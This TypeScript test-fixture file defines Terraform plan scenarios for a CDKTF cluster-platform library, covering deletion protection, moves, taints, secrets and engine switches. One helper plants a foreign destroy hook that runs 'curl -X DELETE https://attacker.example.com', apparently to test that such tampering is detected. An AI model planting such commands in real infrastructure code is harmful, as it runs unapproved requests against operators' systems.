import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { DataResource, Fn, TerraformLocal, TerraformOutput, type TerraformStack, TerraformVariable } from "cdktf";
import { Engine } from "../../../src/constructs/engine";
import { Platform } from "../../../src/constructs/platform";
import type { PlatformProps } from "../../../src/constructs/platform-props";
import { oncePerText } from "../../../src/util/once-per";
import { CapvsProvider } from "../../../src/constructs/types/capvs";
import type { Simulator } from "../../../src/simulator";
import { cluster, provider } from "../../support/capvs";
import type { Workspace } from "../../terraform/workspace";

/** Every plan is made on the first engine, and some also on the second one. */
export const [BASE, OTHER] = ["null_resource", "terraform_data"] as const;

export type Stack = Record<string, Record<string, Record<string, { [key: string]: unknown }>>> & {
  removed?: object[];
  moved?: object[];
  import?: object[];
};

/** A plan of the fixtures: the applied program, the changed one, and what happens besides. */
export interface Scenario {
  readonly before?: (stack: TerraformStack, service: Simulator) => void;
  readonly between?: readonly string[][];
  /** Runs between the apply and the plan. */
  readonly meanwhile?: (workspace: Workspace, service: Simulator) => Promise<void>;
  readonly env?: (service: Simulator) => NodeJS.ProcessEnv;
  readonly after: (stack: TerraformStack, service: Simulator) => void;
  /** Edits the synthesized stack as a person may do by hand. */
  readonly edit?: (stack: Stack) => void;
  readonly args?: readonly string[];
  readonly keepState?: boolean;
  /** Whether the review also reads the synthesized program. */
  readonly withStack?: boolean;
  readonly fails?: boolean;
}

/** In the others, the state, the service or the command line has a part. */
export const isClean = ({ between, meanwhile, env, args, fails }: Scenario) => !between && !meanwhile && !env && !args && !fails;

/** The scenarios whose plans are in a folder of the fixtures. */
export const scenariosIn = oncePerText((folder) => {
  if (folder.endsWith("provider")) return providerScenarios();
  return scenarios(folder === "" ? Engine.NULL_RESOURCE : Engine.TERRAFORM_DATA);
});

function scenarios(engine: Engine): Record<string, Scenario> {
  const other = (engine as string) === BASE ? OTHER : BASE;
  const size = { cpus: 4, memoryMib: 8192, diskGib: 60 };
  const five = { controlPlane: { count: 5, ...size } };

  const platform = (stack: TerraformStack, props: PlatformProps = {}) =>
    new Platform(stack, "platform", { engine: engine, pollSeconds: 0.1, deletionProtection: [], ...props });
  type Clusters = Record<string, Parameters<typeof cluster>[3]>;
  const declare =
    (clusters: Clusters, props: PlatformProps = {}, rest: (stack: TerraformStack) => void = () => undefined) =>
    (stack: TerraformStack) => {
      platform(stack, props);
      const on = provider(stack);
      for (const [name, declared] of Object.entries(clusters)) cluster(stack, name, on, declared);
      rest(stack);
    };
  /** As in most real stacks, the code says how to reach the service. */
  const connected =
    (clusters: Clusters): Scenario["after"] =>
    (stack, { url }) =>
      declare(clusters, {
        url,
        tls: { allowPlainHttp: true },
        timeouts: { requestSeconds: 30 },
        deletionProtection: ["prod"],
      })(stack);
  const both = declare({ prod: {}, stage: {} });
  const prod = `${engine}.capvs_clusters["prod"]`;
  const block = (stack: Stack) => stack.resource![engine]!.capvs_clusters!;

  const withForeignHook = (stack: Stack) => {
    const [, destroy] = block(stack).provisioner as { "local-exec": { interpreter?: string[]; command: string } }[];
    delete destroy!["local-exec"].interpreter;
    destroy!["local-exec"].command = "curl -X DELETE https://attacker.example.com";
  };
  const dependents = (stack: TerraformStack, props: Clusters[string], byLocal = false) => {
    platform(stack);
    const on = provider(stack);
    const uid = cluster(stack, "prod", on, props).uid;
    cluster(stack, "stage", on);
    const byName = () => Fn.lookup(new TerraformLocal(stack, "uids", { prod: uid }).expression, "prod");
    const triggersReplace: unknown = byLocal ? new TerraformLocal(stack, "uid", byName()).expression : uid;
    const fleet = new DataResource(stack, "fleet", { triggersReplace } as never);
    new DataResource(stack, "flux", { triggersReplace: fleet.id } as never);
    new DataResource(stack, "apart", { input: "1" } as never);
  };

  return {
    create: { after: both },
    unchanged: { before: both, after: both, keepState: true },
    change: { before: both, after: declare({ prod: five, stage: {} }), keepState: engine !== BASE },
    whole: { before: both, after: declare({ prod: five, stage: {} }) },
    remove: { before: both, after: declare({ prod: {} }) },
    "remove-all": { before: both, after: (stack) => void platform(stack) },
    destroy: { before: both, after: both, args: ["-destroy"] },
    "destroy-protected": {
      before: both,
      after: declare({ prod: {}, stage: {} }, { deletionProtection: ["prod"] }),
      args: ["-destroy"],
    },
    "provider-in-use": {
      before: both,
      after: (stack) => {
        platform(stack);
        const on = provider(stack, "vsphere", { datacenter: "/us" });
        cluster(stack, "prod", on);
      },
    },
    "provider-in-use-and-replace": {
      before: both,
      after: (stack) => {
        platform(stack);
        const on = provider(stack, "vsphere", { datacenter: "/us" });
        cluster(stack, "prod", on, five);
        cluster(stack, "stage", on);
      },
    },
    "provider-free": {
      before: declare({}),
      after: (stack) => {
        platform(stack);
        provider(stack, "vsphere", { datacenter: "/us" });
      },
    },
    "register-and-replace": {
      before: both,
      after: declare({ prod: five, stage: {} }, {}, (stack) => void provider(stack, "vsphere-2")),
    },
    "protected-removal": { before: both, after: declare({ prod: {} }, { deletionProtection: ["st*"] }) },
    "protected-change": { before: both, after: declare({ prod: five, stage: {} }, { deletionProtection: true }) },
    "protected-and-replace": {
      before: both,
      after: declare({ prod: five, stage: five, dev: {} }, { deletionProtection: ["stage"] }),
    },
    "protected-removal-and-replace": { before: both, after: declare({ prod: five }, { deletionProtection: ["stage"] }) },
    "allowed-removal": { before: both, after: declare({ prod: {} }, { deletionProtection: true, allowDeletion: ["stage"] }) },
    retain: { before: both, after: declare({ prod: {} }, { retain: ["stage"] }) },
    "retain-unknown": { before: both, after: declare({ prod: five }, { retain: ["nobody"] }) },
    "retain-change": { before: both, after: declare({ prod: five, stage: {} }, { retain: ["capvs/clusters/prod"] }) },
    "retain-and-adopt": { before: both, after: declare({ prod: { ...five, adopt: true }, stage: {} }, { retain: ["prod"] }) },
    adopt: { before: declare({ prod: {} }), after: declare({ prod: {}, stage: { adopt: true } }) },
    tainted: { before: both, between: [["taint", prod]], after: both, keepState: true },
    "tainted-removal": { before: both, between: [["taint", prod]], after: declare({ stage: {} }) },
    triggered: {
      before: declare({ prod: {} }, {}, (stack) => void new DataResource(stack, "cause", { input: "1" } as never)),
      after: declare({ prod: {} }, {}, (stack) => void new DataResource(stack, "cause", { input: "2" } as never)),
      edit: (stack) => (block(stack).lifecycle = { replace_triggered_by: ["terraform_data.cause"] } as never),
    },
    "create-before-destroy": {
      before: both,
      after: declare({ prod: five, stage: {} }),
      edit: (stack) => (block(stack).lifecycle = { create_before_destroy: true } as never),
    },
    deposed: {
      before: both,
      meanwhile: async (workspace) => {
        workspace.synth(declare({ prod: five, stage: {} }));
        editStack(workspace, (stack) => (block(stack).lifecycle = { create_before_destroy: true } as never));
        await workspace.apply();
      },
      after: both,
    },
    "platform-removed": { before: both, after: (stack) => void new DataResource(stack, "rest", { input: "1" } as never) },
    forgotten: {
      before: both,
      after: (stack) => void new DataResource(stack, "rest", { input: "1" } as never),
      edit: (stack) => (stack.removed = [{ from: `${engine}.capvs_clusters`, lifecycle: { destroy: false } }]),
    },
    "platform-renamed": { before: both, after: declare({ prod: {}, stage: {} }, { name: "eu" }) },
    "platform-renamed-adopt": {
      before: declare({ prod: {} }),
      after: (stack) => {
        platform(stack, { name: "eu" });
        cluster(stack, "prod", provider(stack, "vsphere", { adopt: true }), { adopt: true });
      },
    },
    "platform-renamed-moved": {
      before: declare({ prod: {}, stage: {} }, { deletionProtection: ["prod"] }),
      after: (stack) => {
        platform(stack, { name: "eu" });
        const on = provider(stack);
        for (const name of ["prod", "stage"]) cluster(stack, name, on);
      },
      edit: (stack) => {
        const move = (id: string, name: string) => ({ from: `${engine}.${id}["${name}"]`, to: `${engine}.eu_${id}["${name}"]` });
        const clusters = ["prod", "stage"].map((name) => move("capvs_clusters", name));
        stack.moved = [move("capvs_providers", "vsphere"), ...clusters];
      },
    },
    moved: {
      before: both,
      after: declare({ prod: five, stage: {} }, { engine: "terraform_data" as Engine }),
      edit: (stack) => {
        const move = (id: string, name: string) => {
          const at = `${id}["${name}"]`;
          return { from: `null_resource.${at}`, to: `terraform_data.${at}` };
        };
        const clusters = ["prod", "stage"].map((name) => move("capvs_clusters", name));
        stack.moved = [move("capvs_providers", "vsphere"), ...clusters];
      },
    },
    switched: { before: both, after: declare({ prod: {}, stage: {} }, { engine: other as Engine }) },
    renamed: {
      before: declare({ stage: {} }),
      after: (stack) => {
        platform(stack);
        cluster(stack, "stage-new", provider(stack, "vsphere-new"));
      },
      edit: (stack) =>
        (stack.moved = [
          { from: `${engine}.capvs_providers["vsphere"]`, to: `${engine}.capvs_providers["vsphere-new"]` },
          { from: `${engine}.capvs_clusters["stage"]`, to: `${engine}.capvs_clusters["stage-new"]` },
        ]),
    },
    "renamed-in-state": {
      before: declare({ prod: {}, stage: {}, dev: {} }),
      between: [
        ["state", "mv", `${engine}.capvs_clusters["stage"]`, `${engine}.capvs_clusters["stage-new"]`],
        ["state", "mv", `${engine}.capvs_clusters["dev"]`, `${engine}.capvs_clusters[0]`],
      ],
      after: declare({ prod: {}, "stage-new": {} }),
      keepState: true,
    },
    "moved-to-type": {
      before: declare({}),
      after: (stack) => void platform(stack),
      edit: (stack) =>
        (stack.moved = [{ from: `${engine}.capvs_providers["vsphere"]`, to: `${engine}.capov_providers["vsphere"]` }]),
    },
    unknown: {
      before: both,
      after: (stack) => {
        platform(stack);
        const network = new DataResource(stack, "network", { input: "10.1.0.0/16" } as never);
        const on = provider(stack);
        cluster(stack, "prod", on, { podSubnet: network.getStringAttribute("output") });
        cluster(stack, "stage", on);
      },
    },
    secrets: {
      before: declare({ prod: { bodyOverrides: { cluster: { cakey: "OLD-KEY", acmeToken: "OLD-TOKEN", note: "shown" } } } }),
      after: (stack) => {
        const subnet = new TerraformVariable(stack, "subnet", { type: "string", sensitive: true, default: "10.99.0.0/16" });
        declare({
          prod: {
            podSubnet: subnet.stringValue,
            bodyOverrides: { cluster: { cakey: "NEW-KEY", acmeToken: "NEW-TOKEN", note: "shown too" } },
          },
        })(stack);
      },
    },
    sensitivity: {
      before: declare({ prod: { podSubnet: "10.200.0.0/16" } }),
      after: (stack) => {
        const subnet = new TerraformVariable(stack, "subnet", { type: "string", sensitive: true, default: "10.200.0.0/16" });
        declare({ prod: { podSubnet: subnet.stringValue } })(stack);
      },
    },
    targeted: {
      before: both,
      after: (stack) => {
        platform(stack);
        cluster(stack, "prod", provider(stack, "vsphere", { datacenter: "/us" }), five);
      },
      args: [`-target=${engine}.capvs_providers["vsphere"]`],
    },
    others: {
      before: declare({ prod: {} }, {}, (stack) => {
        new DataResource(stack, "kept", { input: "1" } as never);
        new DataResource(stack, "updated", { input: "1" } as never);
        new DataResource(stack, "gone", { input: "1" } as never);
        new TerraformOutput(stack, "answer", { value: "1" });
      }),
      after: declare({ prod: {} }, {}, (stack) => {
        new DataResource(stack, "kept", { input: "1" } as never);
        new DataResource(stack, "updated", { input: "2" } as never);
        new DataResource(stack, "new", { input: "1" } as never);
        new TerraformOutput(stack, "answer", { value: "2" });
      }),
      edit: (stack) =>
        Object.assign(stack, {
          check: {
            answer: { assert: [{ condition: "${terraform_data.kept.input == 2}", error_message: "It is not what it was." }] },
          },
        }),
    },
    // Resources that depend on a cluster by a reference, by another resource and by a data source.
    dependents: {
      before: (stack) => dependents(stack, {}),
      after: (stack) => dependents(stack, five),
    },
    "dependents-by-local": {
      before: (stack) => dependents(stack, {}, true),
      after: (stack) => dependents(stack, five, true),
      withStack: true,
    },
    "dependents-removed": {
      before: (stack) => dependents(stack, {}),
      after: (stack) => {
        platform(stack);
        provider(stack);
        new DataResource(stack, "apart", { input: "1" } as never);
      },
    },
    weakened: {
      before: declare({ prod: {}, stage: {} }, { deletionProtection: ["prod", "stage"] }),
      after: declare({ prod: {}, stage: {} }, { deletionProtection: ["prod"], allowDeletion: ["stage"], retain: ["prod"] }),
    },
    "connection-changed": {
      before: both,
      after: declare(
        { prod: {}, stage: {} },
        {
          tls: { insecureSkipVerify: true, caFile: "/etc/ssl/authorities.pem" },
          timeouts: { requestSeconds: 30, readySeconds: 900 },
        },
      ),
    },
    connected: {
      before: connected({ prod: {}, stage: {} }),
      after: connected({ prod: {}, dev: {}, old: { adopt: true } }),
      args: [`-replace=${prod}`],
    },
    "foreign-hook": {
      before: both,
      after: declare({ prod: {} }, { deletionProtection: ["stage"] }),
      edit: withForeignHook,
    },
    "foreign-hook-and-frozen-guard": {
      before: declare({ prod: {}, stage: {} }, { deletionProtection: ["stage"] }),
      after: declare({ prod: {} }, { deletionProtection: ["stage"] }),
      edit: (stack) => {
        withForeignHook(stack);
        const guard = stack.resource!.terraform_data!.cluster_platform_ready!;
        guard.lifecycle = { ignore_changes: "all" } as never;
      },
    },
    // As an aspect may do.
    "without-destroy-hooks": {
      before: both,
      after: declare({ prod: five, dev: {} }, { deletionProtection: true }),
      edit: (stack) => {
        for (const resource of Object.values(stack.resource!).flatMap(Object.values)) {
          const all = [resource.provisioner ?? []].flat() as { "local-exec": { when?: string } }[];
          const rest = all.filter((item) => item["local-exec"].when !== "destroy");
          if (rest.length > 0) resource.provisioner = rest;
          else delete resource.provisioner;
        }
      },
    },
    "readiness-only": { before: both, between: [["taint", "terraform_data.cluster_platform_ready"]], after: both },
    errored: {
      before: both,
      after: both,
      fails: true,
      edit: (stack) =>
        (block(stack).lifecycle = { precondition: [{ condition: "${each.key == 2}", error_message: "No." }] } as never),
    },
    "handover-from": { before: both, after: declare({ stage: {} }, { retain: ["prod"] }) },
    "handover-to": {
      after: (stack) => {
        platform(stack);
        cluster(stack, "prod", CapvsProvider.fromName("vsphere"), { adopt: true });
      },
    },
  };
}

/** A few plans that show much each. */
function providerScenarios(): Record<string, Scenario> {
  const engine = Engine.PROVIDER;
  const size = { cpus: 4, memoryMib: 8192, diskGib: 60 };
  const five = { controlPlane: { count: 5, ...size } };

  type Clusters = Record<string, Parameters<typeof cluster>[3]>;
  type LiveList = { readonly items: readonly { readonly clusterName: string }[] };
  const declare =
    (clusters: Clusters, props: PlatformProps = {}) =>
    (stack: TerraformStack) => {
      new Platform(stack, "platform", { engine, pollSeconds: 0.1, ...props });
      const on = provider(stack);
      for (const [name, declared] of Object.entries(clusters)) cluster(stack, name, on, declared);
    };
  const block = (stack: Stack) => stack.resource!.clusterplatform_capvs_cluster!;
  const many = { prod: {}, stage: {}, dev: {}, old: {}, qa: {}, web: {}, scaled: {}, grown: {}, lost: {}, wide: {} };
  const { prod: _, dev: __, old: ___, qa: ____, ...stay } = many;
  const protectedAtFirst = { deletionProtection: ["prod", "stage", "lost"] };
  /** The same service, which has another URL. */
  const another = (stack: TerraformStack, service: Simulator, of: Clusters[string], props: PlatformProps = {}) => {
    const url = service.url.replace("127.0.0.1", "localhost");
    const eu = new Platform(stack, "platform-eu", { name: "eu", url, engine, pollSeconds: 0.1, ...props });
    cluster(stack, "euro", provider(stack, "vsphere-eu", { platform: eu }), { platform: eu, ...of });
  };

  /** `tool` stays on the provider `spare`. A resource depends on `prod`. */
  const refusable = (clusters: Clusters, hasSpare: boolean) => (stack: TerraformStack) => {
    new Platform(stack, "platform", { engine, pollSeconds: 0.1, allowDeletion: ["dev"] });
    const on = provider(stack);
    cluster(stack, "tool", hasSpare ? provider(stack, "spare") : CapvsProvider.fromName("spare"));
    for (const [name, declared] of Object.entries(clusters)) {
      const { uid } = cluster(stack, name, on, declared);
      if (name === "prod") new DataResource(stack, "add_on", { triggersReplace: uid } as never);
    }
  };

  const deleteLive = async ({ url, token }: Simulator, name: string) => {
    const headers = { authorization: `Bearer ${token}` };
    await fetch(`${url}/api/v1/clusters/${name}`, { method: "DELETE", headers });
  };

  return {
    create: { after: declare({ prod: {}, stage: { adopt: true } }), withStack: true },
    // One plan with all that can become of an object.
    everything: {
      before: declare(many, protectedAtFirst),
      meanwhile: async (workspace, service) => {
        await workspace.run(["state", "rm", "clusterplatform_capvs_cluster.wide"]);
        const headers = { authorization: `Bearer ${service.token}` };
        await deleteLive(service, "lost");
        const list = (await (await fetch(`${service.url}/api/v1/clusters`, { headers })).json()) as LiveList;
        const isByHand = ({ clusterName: name }: LiveList["items"][number]) => name === "scaled" || name === "grown";
        const items = list.items.map((item) => (isByHand(item) ? { ...item, controlplaneNodesCount: 5 } : item));
        const body = { ...list, items };
        service.inject({ kind: "status", status: 200, body, method: "GET", path: "/api/v1/clusters" });
      },
      after: declare(
        { ...stay, prod: { ...five, podSubnet: "10.200.0.0/16" }, grown: five, fresh: {} },
        { deletionProtection: ["prod", "lost"], allowDeletion: ["prod", "web"], retain: ["old"] },
      ),
      edit: (stack) => {
        const clusters = block(stack);
        clusters.frontend = clusters.web!;
        delete clusters.web;
        stack.resource!.clusterplatform_ready!.ready = JSON.parse(
          JSON.stringify(stack.resource!.clusterplatform_ready!.ready).replace("cluster.web.uid", "cluster.frontend.uid"),
        ) as Record<string, unknown>;
        stack.moved = [{ from: "clusterplatform_capvs_cluster.web", to: "clusterplatform_capvs_cluster.frontend" }];
        stack.import = [{ to: "clusterplatform_capvs_cluster.wide", id: "wide" }];
        stack.removed = [{ from: "clusterplatform_capvs_cluster.qa", lifecycle: { destroy: false } }];
      },
    },
    unchanged: { before: declare({ prod: {}, stage: {} }), after: declare({ prod: {}, stage: {} }), keepState: true },
    // Somebody has deleted `lost`, and the code still declares it.
    "refresh-only": {
      before: declare({ prod: {}, lost: {} }),
      meanwhile: (_, service) => deleteLive(service, "lost"),
      after: declare({ prod: {}, lost: {} }),
      args: ["-refresh-only"],
    },
    // `lost` has left the code, too.
    "gone-from-code": {
      before: declare({ prod: {}, lost: {} }, { deletionProtection: false }),
      meanwhile: (_, service) => deleteLive(service, "lost"),
      after: declare({ prod: {} }, { deletionProtection: false }),
    },
    destroy: {
      before: declare({ prod: {}, stage: {} }, { deletionProtection: false }),
      after: declare({ prod: {}, stage: {} }, { deletionProtection: false }),
      args: ["-destroy"],
    },
    secrets: {
      before: declare(
        { prod: { bodyOverrides: { cluster: { cakey: "OLD-KEY", acmeToken: "OLD-TOKEN", note: "shown" } } }, stage: {} },
        { deletionProtection: false },
      ),
      after: (stack) => {
        const subnet = new TerraformVariable(stack, "subnet", { type: "string", sensitive: true, default: "10.200.0.0/16" });
        const network = new DataResource(stack, "network", { input: "10.1.0.0/16" } as never);
        declare(
          {
            prod: {
              podSubnet: subnet.stringValue,
              bodyOverrides: { cluster: { cakey: "NEW-KEY", acmeToken: "NEW-TOKEN", note: "shown too" } },
            },
            stage: { podSubnet: network.getStringAttribute("output") },
          },
          { deletionProtection: false },
        )(stack);
      },
    },
    // As docs/migration.md says, but `dev` leaves the code, too.
    switched: {
      before: declare({ prod: {}, stage: {}, dev: {} }, { engine: Engine.TERRAFORM_DATA, deletionProtection: ["prod"] }),
      after: (stack) => {
        new Platform(stack, "platform", { engine: Engine.PROVIDER, pollSeconds: 0.1, deletionProtection: ["prod"] });
        const on = provider(stack, "vsphere", { adopt: true });
        for (const name of ["prod", "stage"]) cluster(stack, name, on, { adopt: true });
      },
    },
    "two-platforms": {
      before: (stack, service) => {
        declare({ prod: {} }, { engine: Engine.TERRAFORM_DATA, deletionProtection: false })(stack);
        another(stack, service, {});
      },
      after: (stack, service) => {
        declare({ prod: five }, { engine: Engine.TERRAFORM_DATA, deletionProtection: false })(stack);
        another(stack, service, five, { allowDeletion: ["euro"], tls: { insecureSkipVerify: true } });
      },
    },
    "platform-renamed-moved": {
      before: declare({ prod: {}, stage: {} }, { deletionProtection: ["prod"] }),
      after: (stack) => {
        declare({ prod: {}, stage: {} }, { name: "eu", deletionProtection: false })(stack);
      },
      edit: (stack) => {
        const move = (id: string, name: string) => ({ from: `${id}.${name}`, to: `${id}.eu_${name}` });
        const clusters = ["prod", "stage"].map((name) => move("clusterplatform_capvs_cluster", name));
        stack.moved = [move("clusterplatform_capvs_provider", "vsphere"), ...clusters];
      },
    },
    // It lacks what is refused.
    refused: {
      before: refusable({ prod: {}, stage: {}, dev: {} }, true),
      after: refusable({ prod: five, fresh: {} }, false),
      fails: true,
    },
    "service-moved": {
      before: declare({ prod: {} }, { deletionProtection: false }),
      after: declare({ prod: {} }, { deletionProtection: false }),
      env: ({ url }) => ({ CLUSTER_PLATFORM_URL: url.replace("127.0.0.1", "localhost") }),
    },
  };
}

export function editStack(workspace: Workspace, edit: (stack: Stack) => void): void {
  const file = join(workspace.stackFolder, "cdk.tf.json");
  const stack = JSON.parse(readFileSync(file, "utf8")) as Stack;
  edit(stack);
  writeFileSync(file, JSON.stringify(stack, null, 1));
}
